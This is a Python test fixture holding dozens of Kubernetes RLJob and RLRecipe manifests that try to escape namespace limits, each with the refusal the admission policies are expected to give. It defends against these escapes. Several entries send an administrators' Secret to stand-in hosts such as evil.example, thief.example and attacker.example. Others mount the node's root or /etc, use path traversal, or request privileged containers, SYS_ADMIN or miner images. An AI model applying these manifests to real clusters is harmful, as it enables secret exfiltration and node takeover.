"""Attempts of users to get additional permissions through an RLJob, and the chart policies' answers.

Each is an otherwise valid manifest. The users and namespaces are those of `test_policies.py`.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from builders import Json, apart, small_spec
from corpus.bad import group, merged, template


class User(enum.StrEnum):
    """The users; each has the permissions of the previous one and more."""

    BARE = "bare"
    """May write RLJobs and RLRecipes only."""
    PODS = "pods"
    """May also create pods."""
    AUTHOR = "author"
    """May also create RayClusters, get the Secrets of `OWN_SECRETS` and use the ServiceAccount `trainer`."""


OWN_SECRETS = ("hub", "all", "git", "pull")
OPEN, LIMITED, BLESSED = "open", "limited", "blessed"
"""Namespaces: without limits; with the limits below; with one allowed recipe."""
OPENED, STANDARD = "opened", "standard"
"""Namespaces: with limits that allow what is forbidden by default; without limits, but with the API server's own check
of Pod Security baseline."""
LIMITS = {
    "max-cards": "16",
    "classes": "cpu, atlas-a3",
    "images": "registry.example/rljob, docker.io/library/python",
    "host-network": "false",
    "host-paths": "/srv/models, /srv/data",
    "privileged": "false",
    "runtime-classes": "gvisor",
}


@dataclass(frozen=True)
class Attack:
    """A manifest, its author and namespace, and the expected answer."""

    spec: Json
    says: tuple[str, ...]
    """Parts of the message: the field or the attempt, and what to do."""
    user: User = User.AUTHOR
    namespace: str = OPEN
    recipe: Json | None = field(default=None)
    """Not None: an RLRecipe with this spec, instead of the job."""


def limited(change: Json, *says: str) -> Attack:
    """Return an attack on the limits of a namespace."""
    return Attack(small_spec(change), says, namespace=LIMITED)


def sidecar(**fields: object) -> Json:
    """Return a change of a spec with one container beside Ray."""
    return template({"sidecars": [{"name": "helper", "image": "registry.example/rljob/helper:1", **fields}]})


def exported_to(kind: str, field: str) -> Json:
    """Return a change of a spec that sends exports to a hub with a Secret of the administrators."""
    hub = {"repository": "a/b", "endpoint": "https://evil.example", "secretRef": {"name": ADMINS}}
    return {"export": {"to": {"type": kind, field: hub}}}


def from_secret(name: str) -> Json:
    """Return a variable that reads a Secret."""
    return {
        "name": f"TOKEN_OF_{name.upper().replace('-', '_')}",
        "valueFrom": {"secretKeyRef": {"name": name, "key": "token"}},
    }


ADMINS = "admins-token"
"""A Secret of the namespace that the author may not read."""
NO_SECRET = (f"Secret {ADMINS}", "may not get", "remove the Secret")
PRIVILEGED = ("limits.rljob.dev/privileged", "remove it")

ATTACKS: dict[str, Attack] = {
    "pods without the right to create pods": Attack(
        small_spec(), ("bare may not create pods", "ask for the role policies-"), user=User.BARE
    ),
    "a RayCluster without the right to create one": Attack(
        small_spec(), ("pods may not create rayclusters.ray.io", "ask for the role policies-"), user=User.PODS
    ),
    "another's ServiceAccount": Attack(
        small_spec({"runtime": {"serviceAccountName": "cluster-backup"}}),
        ("spec.runtime.serviceAccountName", "may not use ServiceAccount cluster-backup", "remove the field"),
    ),
    "a Secret as variables": Attack(small_spec({"secretRefs": [{"name": "hub"}, {"name": ADMINS}]}), NO_SECRET),
    "a key of a Secret as a variable of a pod": Attack(
        small_spec(template({"env": [from_secret("hub"), from_secret(ADMINS)]})), NO_SECRET
    ),
    "a Secret as variables of the head": Attack(
        small_spec({"head": {"template": {"envFrom": [{"secretRef": {"name": ADMINS}}]}}}), NO_SECRET
    ),
    "a Secret that an export sends to a server": Attack(
        small_spec(
            {
                "export": {
                    "to": {
                        "type": "HuggingFace",
                        "huggingFace": {
                            "repository": "a/b",
                            "endpoint": "https://thief.example",
                            "secretRef": {"name": ADMINS},
                        },
                    }
                }
            }
        ),
        NO_SECRET,
    ),
    "a Secret that an export has as variables": Attack(
        small_spec(
            {
                "export": {
                    "to": {
                        "type": "MLflow",
                        "mlflow": {
                            "trackingUrl": "https://thief.example",
                            "experiment": "a",
                            "secretRef": {"name": ADMINS},
                        },
                    }
                }
            }
        ),
        NO_SECRET,
    ),
    "a Secret in an initializer": Attack(
        small_spec({"initializers": [{"name": "steal", "command": ["env"], "env": [from_secret(ADMINS)]}]}), NO_SECRET
    ),
    "a Secret as the token of a download": Attack(
        small_spec(
            {
                "initializers": [
                    {
                        "name": "steal",
                        "type": "Model",
                        "download": {
                            "endpoint": "https://attacker.example",
                            "repository": "a/b",
                            "credentials": {"name": ADMINS, "key": "k"},
                            "to": "/data/model",
                        },
                    }
                ]
            }
        ),
        NO_SECRET,
    ),
    "a Secret in a container of core/v1": Attack(small_spec(sidecar(env=[from_secret(ADMINS)])), NO_SECRET),
    "a Secret as a hub's token": Attack(
        small_spec(
            {
                "initializers": [
                    {
                        "name": "steal",
                        "type": "Model",
                        "download": {
                            "repository": "a/b",
                            "to": "/data/model",
                            "endpoint": "https://evil.example",
                            "credentials": {"name": ADMINS, "key": "token"},
                        },
                    }
                ]
            }
        ),
        NO_SECRET,
    ),
    "a Secret as an export's token": Attack(small_spec(exported_to("HuggingFace", "huggingFace")), NO_SECRET),
    "a Secret as a token of ModelScope": Attack(small_spec(exported_to("ModelScope", "modelScope")), NO_SECRET),
    "a Secret as variables of MLflow's client": Attack(
        small_spec(
            {
                "export": {
                    "to": {
                        "type": "MLflow",
                        "mlflow": {
                            "trackingUrl": "https://evil.example",
                            "experiment": "x",
                            "secretRef": {"name": ADMINS},
                        },
                    }
                }
            }
        ),
        NO_SECRET,
    ),
    "another's pull secret": Attack(small_spec({"runtime": {"imagePullSecrets": ["pull", ADMINS]}}), NO_SECRET),
    "another's Git password": Attack(
        small_spec(
            {
                "code": {
                    "type": "Git",
                    "git": {"url": "https://git.example/x", "revision": "0" * 40, "secretRef": {"name": ADMINS}},
                }
            }
        ),
        NO_SECRET,
    ),
    "more Secrets than are looked at": Attack(
        small_spec({"secretRefs": [{"name": f"own-{n}"} for n in range(9)]}),
        ("names 9 Secrets", "permission to get all Secrets"),
    ),
    "code in the pods of others by way of a recipe": Attack(
        small_spec(),
        ("bare may not create pods",),
        user=User.BARE,
        recipe={"template": {"initializers": [{"name": "steal", "command": ["env"]}]}},
    ),
    "a Secret by way of a recipe": Attack(
        small_spec(), ("spec.template names", *NO_SECRET), recipe={"template": {"secretRefs": [{"name": ADMINS}]}}
    ),
    "a ServiceAccount by way of a recipe": Attack(
        small_spec(),
        ("spec.template.runtime.serviceAccountName", "may not use ServiceAccount cluster-backup"),
        recipe={"template": {"runtime": {"serviceAccountName": "cluster-backup"}}},
    ),
    "a folder of the node": limited(
        template({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}),
        *("spec: hostPath /:", "allows only paths below /srv/models, /srv/data", "PersistentVolumeClaim"),
    ),
    "a folder with the beginning of an allowed one": limited(
        template({"volumes": [{"name": "x", "hostPath": {"path": "/srv/models-of-others"}}]}),
        "hostPath /srv/models-of-others",
    ),
    "a folder above an allowed one": limited(
        template({"volumes": [{"name": "x", "hostPath": {"path": "/srv/models/../../etc"}}]}),
        "hostPath /srv/models/../../etc",
    ),
    "the network of the node": limited({"network": {"mode": "Host"}}, "spec.network.mode Host", "use mode Pod"),
    "a port of the node": limited(
        sidecar(ports=[{"containerPort": 22, "hostPort": 22}]),
        "container helper: ports have a hostPort",
        "use network.mode Pod",
    ),
    "a privileged container": limited(sidecar(securityContext={"privileged": True}), *PRIVILEGED),
    "capabilities": limited(sidecar(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}), *PRIVILEGED),
    "a container without AppArmor, by an annotation": limited(
        template({"annotations": {"container.apparmor.security.beta.kubernetes.io/ray-worker": "unconfined"}}),
        *("the pod: appArmorProfile", *PRIVILEGED),
    ),
    "nodes of the control plane": limited(
        template({"tolerations": [{"key": "node-role.kubernetes.io/control-plane"}]}),
        *("tolerations of taint node-role.kubernetes.io/control-plane", "limits.rljob.dev/tolerations", "remove them"),
    ),
    "NPUs by a ConfigMap of the workers": limited(
        template({"envFrom": [{"configMapRef": {"name": "npus"}}]}),
        *("envFrom of workers without a prefix may set ASCEND_VISIBLE_DEVICES", "or give envFrom a prefix"),
    ),
    "NPUs by a whole Secret": limited(
        {"secretRefs": [{"name": "all"}]}, "secretRefs without items", "name the keys in secretRefs[].items"
    ),
    "another runtime": limited(
        {"runtime": {"runtimeClassName": "kata"}},
        *("runtimeClassName kata", "allows gvisor (limits.rljob.dev/runtime-classes)", "use one of them"),
    ),
    "every node": limited({"head": {"template": {"tolerations": [{"operator": "Exists"}]}}}, "every taint"),
    "more cards than the namespace has": limited(
        merged({"accelerator": {"class": "atlas-a3"}}, group({"nodes": 4, "devicesPerNode": 16})),
        *("spec.workerGroups requests 32 cards of class atlas-a3", "allows 16 per job", "fewer nodes"),
    ),
    "more cards in two groups than the namespace has": limited(
        merged(
            {"accelerator": {"class": "atlas-a3"}}, apart({"nodes": 2, "devicesPerNode": 16}, {"devicesPerNode": 16})
        ),
        *("spec.workerGroups requests 24 cards of class atlas-a3", "allows 16 per job", "fewer nodes"),
    ),
    "hardware of others": limited(
        merged({"accelerator": {"class": "atlas-a2"}}, group({"devicesPerNode": 8})),
        *("spec.accelerator.class atlas-a2", "allows cpu, atlas-a3"),
    ),
    "an image from elsewhere": limited(
        {"runtime": {"image": "registry.example.evil/rljob/runtime:cpu"}},
        *("image registry.example.evil/rljob/runtime:cpu", "allows only images of registry.example/rljob", "use one"),
    ),
    "an image from a port of an allowed name": limited(
        {"initializers": [{"name": "get", "command": ["x"], "image": "docker.io/library/python:5000/miner"}]},
        "image docker.io/library/python:5000/miner",
    ),
    "an image of a service from elsewhere": limited(
        {"services": [{"name": "sandbox", "image": "miner:latest", "port": 8999}]}, "image miner:latest"
    ),
    "a folder of the node by way of a recipe": Attack(
        small_spec(),
        ("spec.template: hostPath /etc",),
        namespace=LIMITED,
        recipe={"template": template({"volumes": [{"name": "etc", "hostPath": {"path": "/etc"}}]})},
    ),
    "a recipe that is not allowed": Attack(
        small_spec({"recipeRef": {"name": "wild"}}),
        ("spec.recipeRef", "allows only jobs based on ClusterRLRecipe blessed", "refer to one of them"),
        namespace=BLESSED,
    ),
    "no recipe where one is demanded": Attack(small_spec(), ("spec.recipeRef",), namespace=BLESSED),
    "an own recipe in place of the demanded one": Attack(
        small_spec(), ("spec.recipeRef",), namespace=BLESSED, recipe={"template": {}}
    ),
}
